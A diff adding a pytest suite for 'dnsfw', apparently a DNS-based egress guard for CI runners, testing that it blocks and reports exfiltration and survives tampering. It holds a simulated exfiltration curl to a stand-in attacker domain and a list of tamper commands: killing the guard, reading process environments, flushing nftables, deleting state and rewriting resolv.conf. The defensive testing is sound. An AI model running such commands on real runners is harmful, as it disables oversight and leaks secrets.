@@ -1,0 +1,216 @@
+"""A job on a stand-in runner: guarded from the action's first step to its last, audited or enforced."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+from collections.abc import Iterator
+
+import pytest
+
+from dnsfw.playground import atlas
+from dnsfw.playground.world import Playground, Setting
+from tests.action.standin import Job, Step, job
+
+pytestmark = pytest.mark.kernel
+
+POLICY = f"{atlas.ALLOWED_NAME}\n"
+STEALS = f"curl -sS --max-time 5 https://{atlas.EVIL_SHARED_NAME}/stolen"
+FETCHES = f"curl -sS --max-time 5 -o /dev/null https://{atlas.ALLOWED_NAME}/"
+# What a guard may not leave behind: files, locks, rules, and who may do what.
+TRACES = """
+cat /etc/resolv.conf; find /run ! -path '/run/sudo*'; cd "$1/layers"; find etc/upper opt/upper var/lib/upper home/upper
+ls -la /etc/sudoers /etc/sudoers.d /run/docker.sock; cat /proc/sys/user/max_user_namespaces; nft list ruleset
+"""
+
+
+@pytest.fixture(scope="module")
+def laptop() -> Iterator[Playground]:
+    with Playground(Setting()) as world:
+        yield world
+
+
+@pytest.fixture
+def runner(laptop: Playground) -> Iterator[Job]:
+    """A runner on which dnsfw was installed before."""
+    with job(laptop) as made:
+        made.install()
+        yield made
+
+
+def using(policy: str = POLICY, **inputs: str) -> Step:
+    named = {name.replace("_", "-"): value for name, value in inputs.items()}
+    return Step({"policy": policy, "upstream": atlas.UPSTREAM.v4, **named})
+
+
+def begin(runner: Job, step: Step) -> None:
+    for phase in ("pre", "main"):
+        done = runner.phase(phase, step)
+        assert done.status == 0, done.log
+
+
+def test_enforced_a_step_that_turns_malicious_gets_nothing_out_and_is_named(runner: Job) -> None:
+    traces = runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout
+    step = using()
+    begin(runner, step)
+    assert runner.run(FETCHES).status == 0
+    assert runner.run(STEALS, "install").status != 0
+    post = runner.phase("post", step)
+    assert post.status == 0, post.log
+    assert "## dnsfw: 2 denied, " in step.summary
+    assert "The guard was up without a gap." in step.summary
+    assert "statement signed by the guard" in step.summary
+    row = next(line for line in step.summary.splitlines() if atlas.EVIL_SHARED_NAME in line)
+    assert f"resolve {atlas.EVIL_SHARED_NAME}" in row
+    assert "<code>install</code>" in row
+    assert f"<code>{atlas.EVIL_SHARED_NAME}</code>" in row
+    assert f"<code>{atlas.ALLOWED_NAME}</code> | 1 |" in step.summary
+    assert f"::warning title=Denied%3A resolve {atlas.EVIL_SHARED_NAME}::" in post.log
+    assert runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout == traces
+
+
+def test_audited_it_gets_out_and_the_job_is_told(runner: Job) -> None:
+    step = using(policy="", mode="audit")
+    begin(runner, step)
+    assert runner.run(STEALS).status == 0
+    assert runner.phase("post", step).status == 0
+    assert "would have been denied" in step.summary
+
+
+def test_the_token_is_masked_before_anything_could_show_it(runner: Job) -> None:
+    step = using()
+    main = runner.phase("main", step)  # a local action has no phase before
+    runner.phase("post", step)
+    assert main.log.startswith(f"::add-mask::{step.state['token']}\n")
+    assert main.log.count(step.state["token"]) == 1
+    assert len(base64.b64decode(step.outputs["key"])) == 32
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "sudo -n true",
+        "sudo -n dnsfw down",
+        "{dnsfw} down",
+        "{dnsfw} stop",
+        "{dnsfw} reload",
+        "{dnsfw} sudo on",
+        "DNSFW_TOKEN= {dnsfw} stop",
+        "echo 0000000000000000000000000000000000 | {dnsfw} stop --token-file -",
+        "cat /var/lib/dnsfw-job/job.policy",
+        "echo '*.example' >> /var/lib/dnsfw-job/workflow.policy",
+        "cat /var/lib/dnsfw-job/journal.jsonl",
+        "rm -rf /var/lib/dnsfw-job",
+        "ls /run/dnsfw",
+        "kill -9 {pid}",
+        "cat /proc/{pid}/environ",
+        "nft flush ruleset",
+        "nft list ruleset",
+        "curl -s --max-time 3 --unix-socket /run/docker.sock http://engine/version",
+        "echo nameserver 203.0.113.53 > /etc/resolv.conf",
+        "touch {dnsfw}",
+    ],
+)
+def test_a_later_step_can_t_turn_it_off(guarded: Job, attempt: str) -> None:
+    script = attempt.format(dnsfw=guarded.program, pid=guarded.guard_pid())
+    done = guarded.run(script)
+    assert done.status != 0, done.log
+    assert guarded.run(STEALS).status != 0
+    assert guarded.run(FETCHES).status == 0
+
+
+@pytest.fixture(scope="module")
+def guarded() -> Iterator[Job]:
+    """A runner under guard, for many attempts; its machine has no other."""
+    with Playground(Setting()) as laptop, job(laptop) as made:
+        made.install()
+        made.open_engine_socket()
+        step = using()
+        begin(made, step)
+        yield made
+        post = made.phase("post", step)
+        assert post.status == 0, post.log
+        assert made.run("sudo -n true").status == 0
+        assert made.run("curl -s --max-time 3 --unix-socket /run/docker.sock http://engine/version").status == 0
+
+
+def test_sudo_can_be_given_back_for_a_step_and_taken_again(runner: Job) -> None:
+    step = using()
+    begin(runner, step)
+    token = {"token": step.outputs["token"]}
+    assert runner.use("action/sudo-on", token).status == 0
+    assert runner.run("sudo -n true").status == 0
+    assert runner.use("action/sudo-off", token).status == 0
+    assert runner.run("sudo -n true").status != 0
+    refused = runner.use("action/sudo-on", {"token": "0" * 64})
+    assert refused.status == 1
+    assert "sudo is not on" in refused.log
+    assert runner.phase("post", step).status == 0
+
+
+@pytest.mark.parametrize(
+    ("step", "named"),
+    [
+        (using("no such rule!\n"), "workflow.policy:1"),
+        (using("no such rule!\n", mode="audit"), "workflow.policy:1"),
+        (using(policy="", policy_file="missing.policy"), "missing.policy can't be read (ENOENT)"),
+        (using(presets="no-such-preset"), "no-such-preset"),
+        (using(polcy="x"), "polcy"),
+        (using(upstream="not-an-address"), "not-an-address"),
+    ],
+    ids=["policy", "policy in audit mode", "missing file", "preset", "unknown input", "upstream"],
+)
+def test_what_can_t_be_guarded_fails_at_once_with_the_reason_and_leaves_nothing(
+    runner: Job, step: Step, named: str
+) -> None:
+    before = runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout
+    main = runner.phase("main", step)
+    assert main.status == 1
+    assert "::error title=dnsfw%3A this job is not guarded::" in main.log
+    assert named in main.log
+    assert runner.phase("post", step).status == 0
+    assert runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout == before
+
+
+def test_without_sudo_it_says_so(runner: Job) -> None:
+    runner.as_root("rm", "/etc/sudoers.d/runner")
+    main = runner.phase("main", using())
+    assert main.status == 1
+    assert "sudo" in main.log
+
+
+def test_a_policy_file_of_the_workspace_with_what_it_includes(runner: Job) -> None:
+    (runner.workspace / "ci.policy").write_text("@include hosts.policy\n")
+    (runner.workspace / "hosts.policy").write_text(POLICY)
+    step = using(policy="", policy_file="ci.policy")
+    begin(runner, step)
+    (runner.workspace / "hosts.policy").write_text(f"*.{atlas.EVIL_ZONE}\n")  # too late
+    assert runner.run(FETCHES).status == 0
+    assert runner.run(STEALS).status != 0
+    assert runner.phase("post", step).status == 0
+
+
+def test_denials_fail_the_job_where_that_is_wanted_and_the_journal_is_kept(runner: Job) -> None:
+    step = using(fail_on_deny="true")
+    begin(runner, step)
+    runner.run(STEALS)
+    with runner.results() as results:
+        assert runner.phase("post", step, results.environ).status == 1
+    (name, journal) = results.artifact()
+    assert name == "dnsfw-journal-build-1"
+    records = [json.loads(line) for line in journal.splitlines()]
+    assert any(record.get("subject", {}).get("name") == atlas.EVIL_SHARED_NAME for record in records)
+
+
+def test_a_guard_that_is_gone_at_the_end_fails_the_job_within_ten_seconds(runner: Job) -> None:
+    step = using()
+    begin(runner, step)
+    runner.as_root("kill", "-9", str(runner.guard_pid()))
+    post = runner.phase("post", step)
+    assert post.status == 1
+    assert "the guard is not there" in post.log
+    assert re.search(r"::error title=dnsfw", post.log)
+    assert post.seconds < 10
+    assert runner.run(STEALS).status != 0  # closed, until somebody clears it
+    runner.as_root(runner.program, "down")
